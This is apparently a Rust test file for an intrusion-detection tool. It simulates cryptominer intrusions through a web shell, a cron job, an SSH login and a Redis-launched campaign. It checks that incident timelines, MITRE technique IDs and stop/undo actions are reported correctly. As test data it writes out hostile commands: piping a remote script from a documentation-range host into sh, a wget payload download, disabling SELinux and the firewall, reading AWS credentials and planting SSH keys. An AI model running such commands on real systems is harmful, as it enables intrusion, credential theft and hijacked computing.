//! Incidents: what the administrator reads at three in the morning.
#![allow(clippy::unwrap_used, missing_docs)]

mod scene;

use davy_model::{
    Action, ActionId, ActionRecord, ActionState, Direction, EventKind, FileAct, FindingId, ImageKind,
    Incident, IncidentId, IncidentState, ProcessKey,
};
use scene::{Scene, randomx};

fn told(incident: &Incident) -> Vec<String> {
    incident.timeline.iter().map(|e| format!("{}: {}", e.relation, e.text)).collect()
}

/// A web shell downloads a miner into a shell, which runs it from memory under nginx's name.
fn by_web_request() -> (Scene, ProcessKey, ProcessKey) {
    let mut scene = Scene::new();
    scene.detector.name_user(33, "www-data");
    let apache = scene.run(scene.init(), "/usr/sbin/apache2", &["/usr/sbin/apache2", "-k", "start"]);
    let worker = scene.fork(apache);
    scene.wait(100.0);
    let flow = scene.flow(worker, "203.0.113.9:50000", true);
    scene.bytes(
        flow,
        Direction::Received,
        b"POST /upload.php?token=secret HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 0\r\n\r\n",
    );
    scene.wait(0.5);
    scene.file(worker, "/var/www/shop/img/a.php", FileAct::Written);
    let shell = scene.run(worker, "/usr/bin/dash", &["sh", "-c", "curl -s http://198.51.100.3/i.sh | sh"]);
    scene.wait(0.5);
    let miner =
        scene.run_as(shell, "nginx", "/memfd:nginx (deleted)", ImageKind::Memfd, &["nginx: worker process"]);
    scene.threads(miner, 2, |t| t.mxcsr = randomx());
    (scene, shell, miner)
}

#[test]
fn a_web_intrusion_is_told_from_the_request_to_the_miner() {
    let (mut scene, shell, miner) = by_web_request();
    scene.seconds(9);
    let incident = scene.incident().clone();
    let lines = told(&incident);
    assert_eq!(incident.title, "mining, running");
    assert_eq!(incident.timeline[0].relation, "began with");
    assert!(lines[0].contains("POST /upload.php from 203.0.113.9 to shop.example"), "{lines:#?}");
    assert!(!lines[0].contains("secret"), "{lines:#?}");
    assert!(
        lines.iter().any(|l| l.starts_with("which ran: sh -c \"curl -s http://198.51.100.3/i.sh | sh\"")),
        "{lines:#?}"
    );
    assert!(lines.iter().any(|l| l.starts_with("which ran: \"nginx\" from memory: ")), "{lines:#?}");
    assert!(
        lines.iter().any(|l| l.starts_with("which mined: RandomX: rounding mode changed in")),
        "{lines:#?}"
    );
    assert!(incident.timeline.iter().any(|e| e.user.as_deref() == Some("www-data")));
    let ids: Vec<&str> = incident.techniques.iter().map(|t| t.0.as_str()).collect();
    for id in ["T1496.001", "T1620", "T1036.005", "T1059.004", "T1190"] {
        assert!(ids.contains(&id), "{id} in {ids:?}");
    }
    let tree: Vec<(u32, ProcessKey)> = incident.tree.iter().map(|n| (n.depth, n.process)).collect();
    assert!(tree.contains(&(0, shell)) && tree.contains(&(1, miner)), "{tree:?}");
    let times: Vec<_> = incident.timeline.iter().skip(1).map(|e| e.time).collect();
    assert!(times.is_sorted());
    // One intrusion, one incident, however many findings.
    assert_eq!(scene.incidents.len(), 1);
    assert!(incident.findings.len() >= 2);
}

#[test]
fn actions_stop_and_undo_an_incident() {
    let (mut scene, _, miner) = by_web_request();
    scene.seconds(9);
    let slots: Vec<u64> = scene.findings.keys().copied().collect();
    for slot in &slots {
        scene.detector.number_finding(*slot, FindingId(*slot + 100));
    }
    let slot = *scene.incidents.keys().next().unwrap();
    scene.detector.number_incident(slot, IncidentId(7));
    let incident = scene.detector.incident(slot).unwrap();
    assert_eq!(incident.id, IncidentId(7));
    assert!(incident.findings.iter().all(|f| f.id.0 > 100));

    let record = |state| ActionRecord {
        id: ActionId(1),
        time: incident.detected,
        changed: incident.detected,
        incident: Some(IncidentId(7)),
        finding: None,
        action: Action::Freeze { root: miner, tree: vec![miner] },
        state,
        note: String::new(),
        undoable: true,
        undo: String::new(),
    };
    scene.detector.record_action(&record(ActionState::WouldHave));
    assert_eq!(scene.detector.incident(slot).unwrap().state, IncidentState::Running);
    scene.detector.record_action(&record(ActionState::Done));
    let stopped = scene.detector.incident(slot).unwrap();
    assert_eq!((stopped.state, stopped.title.as_str()), (IncidentState::Stopped, "mining, stopped"));
    assert!(stopped.stopped.is_some());
    assert_eq!(stopped.actions.len(), 1);
    scene.detector.record_action(&record(ActionState::Undone));
    assert_eq!(scene.detector.incident(slot).unwrap().state, IncidentState::Undone);
}

#[test]
fn an_incident_ends_when_its_processes_end() {
    let (mut scene, _, miner) = by_web_request();
    scene.seconds(9);
    scene.exit(miner);
    scene.second();
    assert_eq!(scene.incident().state, IncidentState::Ended);
    assert!(scene.incident().tree.iter().any(|n| n.process == miner && !n.alive));
}

#[test]
fn a_cron_job_that_runs_what_a_request_left_began_with_the_request() {
    let mut scene = Scene::new();
    let cron = scene.run(scene.init(), "/usr/sbin/cron", &["/usr/sbin/cron", "-f"]);
    let apache = scene.run(scene.init(), "/usr/sbin/apache2", &["/usr/sbin/apache2"]);
    let flow = scene.flow(apache, "203.0.113.9:50000", true);
    scene.bytes(flow, Direction::Received, b"GET /cgi?x HTTP/1.1\r\nHost: shop.example\r\n\r\n");
    let shell = scene.run(apache, "/usr/bin/dash", &["sh", "-c", "wget http://198.51.100.3/x -O /var/lib/x"]);
    scene.file(shell, "/var/lib/x", FileAct::Written);
    scene.exit(shell);
    scene.wait(30.0);
    let job = scene.run(cron, "/usr/bin/dash", &["/bin/sh", "-c", "/var/lib/x"]);
    let miner = scene.run(job, "/var/lib/x", &["/var/lib/x"]);
    scene.threads(miner, 2, |t| t.mxcsr = randomx());
    scene.seconds(10);
    let lines = told(scene.incident());
    assert!(lines[0].contains("GET /cgi from 203.0.113.9 to shop.example"), "{lines:#?}");
    assert!(lines.iter().any(|l| l.starts_with("which wrote: /var/lib/x by dash")), "{lines:#?}");
}

#[test]
fn a_login_is_told_with_its_address() {
    let mut scene = Scene::new();
    scene.detector.name_user(33, "deploy");
    let sshd = scene.run(scene.init(), "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D"]);
    let session = scene.fork(sshd);
    scene.flow(session, "192.0.2.8:52000", true);
    let shell = scene.run(session, "/usr/bin/bash", &["-bash"]);
    let miner = scene.run(shell, "/home/u/x", &["./x"]);
    scene.threads(miner, 2, |t| t.mxcsr = randomx());
    scene.seconds(10);
    let lines = told(scene.incident());
    assert!(lines[0].starts_with("began with: the login of deploy from 192.0.2.8 by sshd"), "{lines:#?}");
}

#[test]
fn two_strangers_are_two_incidents() {
    let mut scene = Scene::new();
    for path in ["/home/a/x", "/home/b/y"] {
        let miner = scene.run(scene.init(), path, &[path]);
        scene.threads(miner, 1, |t| t.mxcsr = randomx());
    }
    scene.seconds(12);
    assert_eq!(scene.incidents.len(), 2);
}

#[test]
fn a_campaign_is_told_with_its_acts() {
    let mut scene = Scene::new();
    let redis = scene.run(scene.init(), "/usr/bin/redis-server", &["/usr/bin/redis-server *:6379"]);
    let script = scene.run(redis, "/usr/bin/bash", &["bash", "/tmp/i.sh"]);
    for args in [
        &["/usr/bin/pkill", "-9", "xmrig"][..],
        &["/usr/sbin/setenforce", "0"],
        &["/usr/sbin/iptables", "-F"],
        &["/usr/bin/crontab", "-"],
        &["/usr/sbin/sysctl", "-w", "vm.nr_hugepages=1280"],
        &["/usr/bin/cat", "/root/.aws/credentials"],
    ] {
        let tool = scene.run(script, args[0], args);
        scene.exit(tool);
    }
    let change = davy_model::FileChange {
        path: "/root/.ssh/authorized_keys".to_owned(),
        file: scene::file_id("/root/.ssh/authorized_keys"),
        act: FileAct::Written,
        executable: false,
        code: false,
        place: Some(davy_model::PersistencePlace::AuthorizedKeys),
    };
    scene.event(Some(script), EventKind::File(change));
    let miner = scene.run(script, "/tmp/.x/kdevtmpfsi", &["/tmp/.x/kdevtmpfsi"]);
    scene.threads(miner, 2, |t| t.mxcsr = randomx());
    scene.seconds(10);
    let incident = scene.incident();
    let lines = told(incident).join("\n");
    for words in [
        "ends other miners by name: /usr/bin/pkill -9 xmrig",
        "takes the firewall down",
        "writes a crontab",
        "reserves huge pages",
        "authorized_keys",
        "was started by redis-server",
    ] {
        assert!(lines.contains(words), "{words}\n{lines}");
    }
    let ids: Vec<&str> = incident.techniques.iter().map(|t| t.0.as_str()).collect();
    for id in ["T1489", "T1562.004", "T1562.001", "T1053.003", "T1098.004", "T1552.001"] {
        assert!(ids.contains(&id), "{id} in {ids:?}");
    }
}
